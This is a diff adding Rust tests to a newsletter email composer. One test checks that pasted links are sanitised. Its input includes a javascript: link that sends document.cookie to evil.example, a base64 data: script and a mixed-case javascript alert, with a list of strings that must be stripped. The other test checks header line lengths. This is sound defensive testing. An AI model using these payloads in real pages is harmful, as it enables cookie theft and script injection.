@@ -352,6 +352,131 @@ fn the_eml_has_one_of_each_header_text_before_html_and_the_footer_in_both() {
 }
 
 #[test]
+fn the_text_part_carries_only_the_links_the_html_part_carries() {
+    let s = Scratch::demo();
+    s.run(&["fetch", "--quiet"]).ok();
+    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
+        .ok();
+    // An editor pasting from a partner's page: links to scripts, an inline document, a
+    // tracked link, and a relative one.
+    let intro = "Firma la [carta urgente](javascript:fetch('https://evil.example/'+document.cookie)) \
+        y mira [el video](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).\n\n\
+        Lee [el informe](https://cdh-altos.example.org/informe.pdf?utm_source=boletin&utm_medium=email) \
+        o [el archivo](../2026-W46/).";
+    let blurb =
+        "Ver [la convocatoria](JaVaScRiPt:alert(1)) o escribir a [la red](mailto:red@example.org).";
+    let mut doc: toml_edit::DocumentMut = s.read(EDITION).parse().unwrap();
+    doc["intro"] = toml_edit::value(intro);
+    doc["section"][0]["item"][0]["blurb"] = toml_edit::value(blurb);
+    s.write(EDITION, &doc.to_string());
+    s.run(&["compose", EDITION, "--out", "out"]).ok();
+    let text = s.read("out/2026-W47/email.txt");
+    let html = s.read("out/2026-W47/email.html");
+    for bad in [
+        "javascript",
+        "JaVaScRiPt",
+        "data:",
+        "document.cookie",
+        "utm_",
+    ] {
+        assert!(!text.contains(bad), "{bad} in the text part:\n{text}");
+        assert!(!html.contains(bad), "{bad} in the HTML part");
+    }
+    // Every address the text part shows is a link of the HTML part.
+    let links = hrefs(&html);
+    let shown: Vec<&str> = text
+        .split(['<', '>', ' ', '\n'])
+        .filter(|w| w.starts_with("https://") || w.starts_with("mailto:"))
+        .collect();
+    for url in [
+        "https://cdh-altos.example.org/informe.pdf",
+        "https://boletin.example.org/2026-W46/",
+        "mailto:red@example.org",
+    ] {
+        assert!(shown.contains(&url), "{url} not in the text part:\n{text}");
+    }
+    for url in shown {
+        assert!(
+            links.iter().any(|l| l == url),
+            "{url} is not linked in the HTML part"
+        );
+    }
+    assert!(
+        text.contains("Firma la carta urgente y mira el video."),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_3000_character_title_keeps_every_header_line_within_998_octets() {
+    let s = Scratch::demo();
+    let title = format!(
+        "{} {}",
+        "Boletín de la Red de Solidaridad con los Pueblos de Oaxaca, Chiapas y Guerrero "
+            .repeat(36),
+        "Mesoamérica".repeat(50)
+    );
+    assert!(title.chars().count() >= 3000);
+    let config = s.read("feeds.toml").replace(
+        "title = \"Boletín Solidaridad Oaxaca–Chiapas\"",
+        &format!("title = \"{title}\""),
+    );
+    s.write("feeds.toml", &config);
+    s.run(&["check"]).ok();
+    s.run(&["fetch", "--quiet"]).ok();
+    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
+        .ok();
+    s.run(&["compose", EDITION, "--out", "out"]).ok();
+    let eml = s.read("out/2026-W47/email.eml");
+    let head = &eml[..eml.find("\r\n\r\n").unwrap()];
+    for line in head.split("\r\n") {
+        assert!(line.len() <= 998, "{} octets: {line}", line.len());
+    }
+    let list_id: Vec<&str> = head
+        .split("\r\n")
+        .skip_while(|l| !l.starts_with("List-Id: "))
+        .take_while(|l| l.starts_with("List-Id: ") || l.starts_with(' '))
+        .collect();
+    assert!(list_id.iter().all(|l| l.len() <= 78), "{list_id:?}");
+    // The message still reads as one, to an independent parser.
+    let out = std::process::Command::new("python3")
+        .arg("-c")
+        .arg(
+            "import email, email.policy, sys\n\
+             m = email.message_from_bytes(open(sys.argv[1], 'rb').read(), policy=email.policy.default)\n\
+             assert not m.defects, m.defects\n\
+             for name in ('From', 'To', 'Subject', 'List-Id', 'List-Unsubscribe'):\n\
+             \x20   print(name, m[name], sep=': ')\n\
+             print(m.get_body(('plain',)).get_content().splitlines()[0][:40])\n",
+        )
+        .arg(s.path().join("out/2026-W47/email.eml"))
+        .output()
+        .expect("python3");
+    let parsed = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{parsed}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        parsed.contains(
+            "\nSubject: Boletín de la Red de Solidaridad con los Pueblos de Oaxaca, Chiapas y"
+        ),
+        "{parsed}"
+    );
+    assert!(parsed.contains("…\n"), "the subject is capped: {parsed}");
+    assert!(parsed.contains("\nList-Id: \"Boletin de la Red de Solidaridad con los Pueblos de Oaxaca, C...\" <boletin.example.org>\n"), "{parsed}");
+    assert!(
+        parsed.contains("\nList-Unsubscribe: <mailto:boletin@example.org?subject=unsubscribe>\n"),
+        "{parsed}"
+    );
+    assert!(
+        parsed.ends_with("Boletín de la Red de Solidaridad con los\n"),
+        "{parsed}"
+    );
+}
+
+#[test]
 fn snapshots_of_a_fixed_edition() {
     let s = demo_composed();
     insta::assert_snapshot!("edition_email_html", s.read("out/2026-W47/email.html"));
